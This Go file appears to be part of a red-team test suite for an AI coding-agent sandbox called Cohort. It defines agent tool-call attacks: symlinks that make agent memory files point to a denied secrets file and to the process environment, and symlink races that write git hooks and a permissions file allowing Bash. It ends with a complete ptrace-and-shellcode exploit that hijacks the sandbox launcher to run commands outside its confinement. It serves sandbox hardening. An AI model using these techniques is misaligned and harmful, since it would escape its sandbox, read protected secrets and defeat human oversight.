package redteam

// The outsider rows that need a fixture of their own, and the program
// that takes over the sandbox launcher.

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/cohort-dev/cohort/worktree"
)

// livedIn gives the fixture what most projects have and the plain fixture
// lacks: a committed .claude/settings.json (so the top of a working
// directory is not frozen) and a source folder.
func livedIn(e *Env) error {
	return commitFiles(e, "lived in", map[string]string{".claude/settings.json": "{}\n", "src/main.go": "package main\n\nfunc main() {}\n"})
}

// writeFiles writes files (project-relative name → content) into the
// project, making their folders.
func writeFiles(e *Env, files map[string]string) error {
	for name, content := range files {
		p := filepath.Join(e.Project, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// commitFiles writes files and commits everything in the project as msg.
func commitFiles(e *Env, msg string, files map[string]string) error {
	if err := writeFiles(e, files); err != nil {
		return err
	}
	for _, args := range [][]string{{"add", "."}, {"commit", "--quiet", "-m", msg}} {
		if out, err := git(e.Project, args...); err != nil {
			return fmt.Errorf("git %v: %v\n%s", args, err, out)
		}
	}
	return nil
}

// plantedMemoryLink makes the project memory's index a link to the
// denied file, as a bypassPermissions command of an earlier session can
// (out-memory-index-link).
func plantedMemoryLink(e *Env) error {
	dir := filepath.Join(e.CohortHome, "projects", worktree.ProjectSlug(e.Project), "memory")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	return os.Symlink(filepath.Join(e.Project, "secrets", "key"), filepath.Join(dir, "MEMORY.md"))
}

// plantedMemoryFiles is livedIn with AGENTS.md a link to the denied file
// and COHORT.md one to the environment of whichever process reads it, as
// out-memory-file-links makes them.
func plantedMemoryFiles(e *Env) error {
	if err := livedIn(e); err != nil {
		return err
	}
	if err := os.Symlink("secrets/key", filepath.Join(e.Project, "AGENTS.md")); err != nil {
		return err
	}
	return os.Symlink("/proc/self/environ", filepath.Join(e.Project, "COHORT.md"))
}

// flip is a background loop that turns {{WORK}}/src/NAME into a folder
// (or file) and into a link to target, over and over.
func flip(name, target string, file bool) string {
	mk := "mkdir src/" + name
	if file {
		mk = "echo decoy > src/" + name
	}
	return "end=$((SECONDS+5)); while [ $SECONDS -lt $end ]; do rm -rf src/" + name + "; " + mk + "; rm -rf src/" + name + "; ln -s " + target + " src/" + name + "; done"
}

// outsiderSoloAttacks change the fixture first (Setup), so each runs in
// sessions of its own: a lived-in project whose top takes links, or what
// an earlier session's command left behind. The races run only where the
// mode lets Bash make links.
func outsiderSoloAttacks() []*Attack {
	bg := map[string]any{"run_in_background": true}
	var raceWrites, raceReads []Call
	for _, n := range []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j"} {
		raceWrites = append(raceWrites,
			oWrite("{{WORK}}/src/h/post-checkout", "#!/bin/sh\ntouch {{CANARY}}\n"),
			oWrite("{{WORK}}/src/c/settings.local.json", `{"permissions": {"allow": ["Bash"]}}`),
			oWrite("{{WORK}}/src/g", "gitdir: {{OUT}}\n"),
			oWrite("{{WORK}}/src/s/lib.sh", "touch {{CANARY}}\n"),
			Use("NotebookEdit", map[string]any{"notebook_path": "{{WORK}}/src/c/n" + n + ".ipynb", "new_source": "x", "cell_type": "code", "edit_mode": "insert"}))
		raceReads = append(raceReads, oRead("{{WORK}}/src/e"), oRead("{{WORK}}/src/k"), oGrep(map[string]any{"path": "{{WORK}}/src/k"}))
	}
	return []*Attack{
		// Cohort reads memory files (COHORT.md, CLAUDE.md, AGENTS.md) for
		// every agent it starts; links made to a denied file and to its
		// own environment, then an agent started.
		{Name: "out-memory-file-links", Class: "cohort-reads", Binary: true, Setup: livedIn, Modes: []Mode{Bypass}, Where: []Location{Main},
			Turns: [][]Call{
				{Bash(`python3 -c 'import os
os.symlink("sec" + "rets/key", "AGENTS.md"); os.symlink("/proc/self/environ", "COHORT.md"); os.symlink("../sec" + "rets/key", "src/CLAUDE.md")'; ls -la`),
					oWrite("{{WORK}}/CLAUDE.md", "@secrets/key\n@{{SECRET}}\n@/proc/self/environ\n")},
				{Use("Agent", map[string]any{"description": "look", "subagent_type": "general-purpose", "prompt": "say done"})},
			}},
		// What out-memory-index-link leaves for the next session: the
		// project memory's index a link to the denied file. The next
		// session's lead is given the index when it starts.
		{Name: "out-memory-index-planted", Class: "cohort-reads", Setup: plantedMemoryLink, Modes: []Mode{Default}, Where: []Location{Main},
			Turns: [][]Call{{Bash("true")}}},
		// What out-memory-file-links leaves for the next session, in a
		// project whose top takes links (it has .claude/): memory files
		// that are links to the denied file and to Cohort's environment.
		{Name: "out-memory-file-planted", Class: "cohort-reads", Setup: plantedMemoryFiles, Binary: true, Modes: []Mode{Default}, Where: []Location{Main},
			Turns: [][]Call{{Bash("true")}}},
		// Links flipped under Write and NotebookEdit by a background
		// command: into .git/hooks, .cohort, the hook scripts' folder and
		// (in a worktree) onto the worktree's .git file.
		{Name: "out-race-protected", Class: "race-symlink", Setup: livedIn, Modes: []Mode{Bypass},
			Turns: [][]Call{
				{BashWith(flip("h", "../.git/hooks", false)+" & "+flip("c", "../.cohort", false)+" & "+flip("g", "../.git", true)+" & "+flip("s", "../scripts", false)+" & wait", bg)},
				raceWrites, raceWrites,
			}},
		// The same under Read: a file that turns into a link to Cohort's
		// environment or to the denied secret (made by python: a command
		// line naming either is refused before it runs).
		{Name: "out-race-read", Class: "race-symlink", Binary: true, Setup: livedIn, Modes: []Mode{Bypass}, Where: []Location{Main},
			Turns: [][]Call{
				{BashWith(`python3 -c 'import os, time
end = time.time() + 5
while time.time() < end:
    for name, target in (("src/e", "/proc/self/environ"), ("src/k", "../sec" + "rets/key")):
        try:
            os.unlink(name)
        except OSError:
            pass
        open(name, "w").write("decoy")
        os.unlink(name)
        os.symlink(target, name)'`, bg)},
				raceReads, raceReads,
			}},
	}
}

// launcherHijack, run as a sandboxed command, takes over the sandbox
// launcher (pid 1 of the command's pid namespace): it attaches with
// ptrace to whichever launcher thread lets it (the one its own command was
// forked from), finds runtime.futex and runtime.usleep in the launcher's
// binary (/proc/1/task/TID/exe), writes a short program over main.main,
// which a launcher never runs, and points both functions at it. The first
// launcher thread to call either without no_new_privs (so outside every
// Landlock domain: the main thread, sysmon) runs touch {{CANARY}} in the
// launcher's view of the file system; confined threads spin instead.
// x86-64 only, like the machine this runs on.
const launcherHijack = `python3 -c '` + hijackScript + `'`

// hijackScript is launcherHijack's program.
const hijackScript = `
import os, ctypes, struct
l = ctypes.CDLL(None, use_errno=True)
l.ptrace.restype = ctypes.c_long
l.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
tid = None
for t in sorted(int(x) for x in os.listdir("/proc/1/task")):
    if l.ptrace(0x4206, t, None, None) == 0:
        tid = t
        break
print("seized launcher thread", tid)
l.ptrace(0x4207, tid, None, None)
os.waitpid(tid, 0x40000000)
exe = open("/proc/1/task/%d/exe" % tid, "rb").read()
shoff, = struct.unpack_from("<Q", exe, 0x28)
shentsize, shnum = struct.unpack_from("<HH", exe, 0x3a)
secs = [struct.unpack_from("<IIQQQQIIQQ", exe, shoff + i * shentsize) for i in range(shnum)]
symtab = [s for s in secs if s[1] == 2][0]
stroff = secs[symtab[6]][4]
want = {b"runtime.futex.abi0": 0, b"runtime.usleep.abi0": 0, b"main.main": 0}
for i in range(symtab[4], symtab[4] + symtab[5], 24):
    name, info, other, shndx, value, size = struct.unpack_from("<IBBHQQ", exe, i)
    n = exe[stroff + name:exe.index(b"\0", stroff + name)]
    if n in want:
        want[n] = value
print({k.decode(): hex(v) for k, v in want.items()})
code = bytearray(b"\xb8\x9d\x00\x00\x00\xbf\x27\x00\x00\x00\x31\xf6\x31\xd2\x45\x31\xd2\x45\x31\xc0\x0f\x05\x85\xc0\x75\x00")
lea = len(code)
code += b"\x48\x8d\x3d\0\0\0\0\x48\x8d\x05\0\0\0\0\x48\x8d\x0d\0\0\0\0\x6a\x00\x51\x50\x57\x48\x89\xe6\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"
spin = len(code)
code += b"\xf3\x90\xeb\xfc"
code[lea - 1] = spin - lea
strs = []
for s in (b"/bin/sh\0", b"-c\0", b"touch {{CANARY}}\0"):
    strs.append(len(code))
    code += s
for k, at in enumerate(range(lea, lea + 21, 7)):
    struct.pack_into("<i", code, at + 3, strs[k] - (at + 7))
code += b"\0" * (-len(code) % 8)
def peek(a):
    return l.ptrace(1, tid, ctypes.c_void_p(a), None) & 0xffffffffffffffff
def poke(a, v):
    if l.ptrace(4, tid, ctypes.c_void_p(a), ctypes.c_void_p(v)) != 0:
        raise OSError(ctypes.get_errno(), "poke")
cave = want[b"main.main"]
for i in range(0, len(code), 8):
    poke(cave + i, struct.unpack_from("<Q", code, i)[0])
for f in (b"runtime.futex.abi0", b"runtime.usleep.abi0"):
    a = want[f]
    b = bytearray(struct.pack("<Q", peek(a)))
    b[0] = 0xe9
    struct.pack_into("<i", b, 1, cave - (a + 5))
    poke(a, struct.unpack("<Q", bytes(b))[0])
print("patched; detach", l.ptrace(17, tid, None, None))
`
